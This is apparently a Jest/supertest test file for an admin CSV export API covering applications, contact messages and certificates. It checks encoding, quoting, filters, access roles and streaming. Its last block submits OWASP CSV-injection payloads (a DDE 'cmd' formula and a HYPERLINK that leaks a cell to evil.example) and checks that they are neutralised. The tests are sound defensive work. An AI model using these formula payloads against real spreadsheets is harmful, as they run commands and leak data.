import TestAgent from 'supertest/lib/agent';
import { fetchBytes, useTestApp, type TestApp } from '../support/app';

const BOM = '\uFEFF';
const DOB = '1987-06-05';

/** The body as the bytes sent, decoded as UTF-8 with the BOM kept. */
const text = (res: { body: unknown }) => (res.body as Buffer).toString('utf8');

const asText = fetchBytes;

describe('exports', () => {
  let t: TestApp;
  let admin: TestAgent;
  useTestApp((app, agent) => ((t = app), (admin = agent)));

  beforeAll(async () => {
    await t.sql(
      `INSERT INTO applications (name, email, phone, program, status, applied_at) VALUES
        ('राम बहादुर', 'ram@example.test', '+9779800000001', 'Electrician', 'approved', now() - interval '2 days'),
        ('Sita, "the" Rai', 'sita@example.test', '9800000002', 'Plumber', 'pending', now() - interval '1 day'),
        ('=HYPERLINK("x")', 'eve@example.test', '9800000003', 'Electrician', 'rejected', now())`,
    );
    await t.sql(
      `INSERT INTO certificates (name, father_name, course_taken, duration, training_date, date_of_birth, certificate_number)
       VALUES ('Hari', 'Shyam', 'Welder', '390 hours', '2024-01-02', $1, 'EXP-1')`,
      [DOB],
    );
    await t.sql(`INSERT INTO contact_messages (name, email, subject, message) VALUES ('Gita', 'gita@example.test', 'general', 'नमस्ते')`);
  });

  it('answers the applications as a UTF-8 CSV attachment that starts with a BOM', async () => {
    const res = await asText(admin, '/api/admin/applications/export');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="applications-\d{4}-\d{2}-\d{2}\.csv"$/);
    const csv = text(res);
    expect(csv.startsWith(BOM + 'Name,Email,Phone,')).toBe(true);
    expect(csv).toContain('राम बहादुर,ram@example.test,+9779800000001,');
    expect(csv).toContain('"Sita, ""the"" Rai"');
  });

  it('applies the list filter and sort', async () => {
    const filter = encodeURIComponent(JSON.stringify({ program: 'Electrician' }));
    const sort = encodeURIComponent(JSON.stringify(['name', 'ASC']));
    const csv = text(await asText(admin, `/api/admin/applications/export?filter=${filter}&sort=${sort}`));
    const names = csv
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[0]);
    expect(names).toEqual([`"'=HYPERLINK(""x"")"`, 'राम बहादुर']);
  });

  it('never lets a cell run as a spreadsheet formula', async () => {
    const csv = text(await asText(admin, '/api/admin/applications/export'));
    expect(csv).not.toMatch(/(^|\n|,)"?=HYPERLINK/);
  });

  it('answers 400 for a filter the list does not allow', async () => {
    const res = await admin.get(`/api/admin/applications/export?filter=${encodeURIComponent('{"email":"x"}')}`);
    expect(res.status).toBe(400);
  });

  it('exports contact messages', async () => {
    const csv = text(await asText(admin, '/api/admin/contact-messages/export'));
    expect(csv).toContain('Gita,gita@example.test,,general,नमस्ते,unread,');
  });

  it('exports certificates with the import field names and never the date of birth', async () => {
    const csv = text(await asText(admin, '/api/admin/certificates/export'));
    expect(csv.split('\r\n')[0]).toBe(
      BOM + 'certificateNumber,name,fatherName,courseTaken,duration,trainingDate,isDonorFunded,projectOfficeName,createdAt',
    );
    expect(csv).toContain('EXP-1,Hari,Shyam,Welder,390 hours,2024-01-02,false,,');
    expect(csv).not.toContain(DOB);
    expect(csv).not.toMatch(/dateOfBirth/i);
  });

  it('refuses the export to someone without the right to the list', async () => {
    expect((await t.agent().get('/api/admin/applications/export')).status).toBe(401);
    await t.createUser({ username: 'viewer-export', password: 'Viewer-Pass-2064', email: 'v@example.test', role: 'viewer' });
    const viewer = await t.signIn('viewer-export', 'Viewer-Pass-2064');
    // A viewer reads content only, never submissions (docs/roles.md).
    expect((await viewer.get('/api/admin/applications/export')).status).toBe(403);
  });

  it('streams 100,000 rows without holding them in memory', async () => {
    await t.sql(
      `INSERT INTO certificates (name, father_name, course_taken, duration, training_date, date_of_birth, certificate_number)
       SELECT 'Trainee ' || i, 'Father ' || i, 'Course of a reasonably long name ' || (i % 10), '390 hours', '2024-01-02', '2000-01-01', 'BULK-' || i
       FROM generate_series(1, 100000) AS i`,
    );
    global.gc?.();
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    let lines = 0;
    let bytes = 0;
    // Counts the bytes as they arrive and keeps none of them.
    const res = await admin.get('/api/admin/certificates/export').parse((stream, done) => {
      stream.on('data', (chunk: Buffer) => {
        bytes += chunk.length;
        for (const b of chunk) if (b === 10) lines++;
        peak = Math.max(peak, process.memoryUsage().heapUsed);
      });
      stream.on('end', () => done(null, null));
    });
    expect(res.status).toBe(200);
    expect(lines).toBe(100_002); // header, EXP-1 and the 100,000 rows
    // The file is over 12 MB and its rows as entities several times that; streamed, the heap grew by about 9 MB.
    expect(bytes).toBeGreaterThan(10_000_000);
    expect(peak - before).toBeLessThan(32 * 1024 * 1024);
  }, 120_000);

  describe('formula payloads typed into the public forms', () => {
    /** OWASP's CSV injection examples: a DDE command and a link that leaks a neighbouring cell. */
    const DDE = "-2+3+cmd|' /C calc'!A0";
    const HYPERLINK = '-1+HYPERLINK("http://evil.example/?leak="&B2,"Open CV")';
    const PHONE = '+977 (01) 555-1234';
    /** The cells of the export's rows (RFC 4180, enough of it for these rows). */
    const cells = async (path: string) => {
      const csv = text(await asText(admin, path)).replace(BOM, '');
      return [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)].map(([, cell]) =>
        cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell,
      );
    };

    beforeAll(async () => {
      const visitor = t.agent();
      await visitor
        .post('/api/applications')
        .send({ name: DDE, email: 'dde@example.test', phone: PHONE, program: HYPERLINK, address: DDE, motivation: HYPERLINK })
        .expect(201);
      await visitor
        .post('/api/contact')
        .send({ name: HYPERLINK, email: 'dde@example.test', phone: PHONE, subject: 'General Inquiry', message: DDE })
        .expect(201);
      await admin
        .post('/api/admin/certificates')
        .send({
          name: DDE,
          fatherName: HYPERLINK,
          courseTaken: 'Welder',
          duration: '390 hours',
          trainingDate: '2024-01-02',
          dateOfBirth: DOB,
          certificateNumber: 'EXP-DDE',
        })
        .expect(201);
    });

    it.each(['applications', 'contact-messages', 'certificates'])('writes them into the %s export as text', async (resource) => {
      const all = await cells(`/api/admin/${resource}/export?filter=${encodeURIComponent('{"q":"dde"}')}`);
      expect(all).toEqual(expect.arrayContaining([`'${DDE}`, `'${HYPERLINK}`]));
      expect(all).not.toContain(DDE);
      expect(all).not.toContain(HYPERLINK);
    });

    it('leaves a phone number as typed', async () => {
      expect(await cells('/api/admin/applications/export')).toContain(PHONE);
      expect(await cells('/api/admin/contact-messages/export')).toContain(PHONE);
    });
  });
});
